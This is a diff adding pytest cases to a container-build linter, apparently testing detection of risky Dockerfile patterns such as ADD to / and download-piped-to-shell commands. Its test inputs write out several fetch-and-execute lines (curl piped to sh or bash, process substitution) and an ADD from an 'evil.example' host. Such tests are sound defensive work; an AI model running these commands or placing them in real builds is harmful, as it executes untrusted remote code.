@@ -2,7 +2,7 @@
 
 import pytest
 from msgspec import structs
-from tests.practices.verdicts import evidence, findings, is_unknown, verdicts
+from tests.practices.verdicts import confidences, evidence, findings, is_unknown, verdicts
 
 from dockward.kit import container_world, engine, image, service, swarm, workload, world
 from dockward.model.fact import Fact, Unknown
@@ -148,6 +148,26 @@ def test_add(line, expected):
 
 
 @pytest.mark.parametrize(
+    ("lines", "expected"),
+    [
+        (("ADD https://evil.example/rootfs.tar.gz / # buildkit",), ["ADD to /"]),
+        (("ADD git@example.org:a.git / # buildkit",), ["ADD to /"]),
+        (("LABEL a=b", "ARG RELEASE", "ADD file:5e06 in /"), []),
+        (("ADD rootfs.tar / # buildkit", "ADD more.tar / # buildkit"), ["ADD to /"]),
+        (("COPY a /a # buildkit", "ADD rootfs.tar / # buildkit"), ["ADD to /"]),
+        (("RUN /bin/sh -c true # buildkit", "ADD rootfs.tar / # buildkit"), ["ADD to /"]),
+    ],
+)
+def test_only_the_system_itself_is_unpacked_without_a_word(lines, expected):
+    assert evidence("add-used", built(*lines)) == expected
+
+
+def test_what_a_cache_mount_may_hide_is_not_certain():
+    assert confidences("apt-lists-left", run("apt-get update")) == ["likely"]
+    assert confidences("apk-cache-left", run("apk add curl")) == ["likely"]
+
+
+@pytest.mark.parametrize(
     ("script", "expected"),
     [
         ("apt-get install -y --force-yes x", ["apt-get --force-yes"]),
@@ -193,6 +213,10 @@ def test_downloads_from_anybody(script, expected):
         ("curl https://x.example/i.sh | sudo -E bash -", ["download | bash"]),
         ('sh -c "$(curl -fsSL https://x.example/i.sh)"', ["download | sh"]),
         ("bash <(curl -s https://x.example/i.sh)", ["download | bash"]),
+        ("bash < <(curl -s https://x.example/i.sh)", ["download | bash"]),
+        ('curl -H "$(cat /header)" https://x.example/i.sh | sh', ["download | sh"]),
+        ("bash -o pipefail -c 'curl https://x.example/i.sh | sh'", ["download | sh"]),
+        ('sh "$(mktemp)" && curl -O https://x.example/t', []),
         ("curl https://x.example/t.tgz | tar xz", []),
         ("curl https://x.example/key | gpg --dearmor; sh build.sh", []),
         ("echo 'x' | sh", []),
